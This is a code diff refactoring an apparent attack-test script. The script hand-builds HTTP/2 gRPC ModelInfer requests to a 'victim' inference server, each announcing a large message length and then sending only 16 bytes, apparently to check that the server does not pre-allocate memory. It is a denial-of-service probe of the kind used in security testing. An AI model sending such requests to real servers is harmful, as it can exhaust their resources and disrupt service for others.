@@ -7,8 +7,8 @@ Nothing is allocated for what does not come, and each gets an error or its conne
 from __future__ import annotations
 
 import json
-import struct
 
+from attacks.http2 import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, call_headers, frame, message, settings
 from attacks.story import Victim, exchange, tell
 
 BODY = json.dumps({"inputs": [{"name": "INPUT0", "datatype": "FP32", "shape": [1, 1], "data": [1.0]}]}).encode()
@@ -35,20 +35,9 @@ def http_request(headers: dict[str, str], body: bytes, announced: int | None = N
 
 
 def grpc_call(length: int) -> bytes:
-    """HTTP/2 by hand: preface, settings, the headers of a ModelInfer, then 16 bytes of a message of `length`."""
-
-    def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
-        return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
-
-    def literal(name: bytes, value: bytes) -> bytes:
-        return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
-
-    headers = b"\x83\x86" + literal(b":path", b"/inference.GRPCInferenceService/ModelInfer")
-    headers += (
-        literal(b":authority", b"victim") + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
-    )
-    message = b"\x00" + struct.pack(">I", length) + bytes(16)
-    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 4, 1, headers) + frame(0, 1, 1, message)
+    """The headers of a ModelInfer, then 16 bytes of a message of `length`."""
+    start = frame(HEADERS, END_HEADERS, 1, call_headers()) + frame(DATA, END_STREAM, 1, message(bytes(16), length))
+    return PREFACE + settings() + start
 
 
 if __name__ == "__main__":
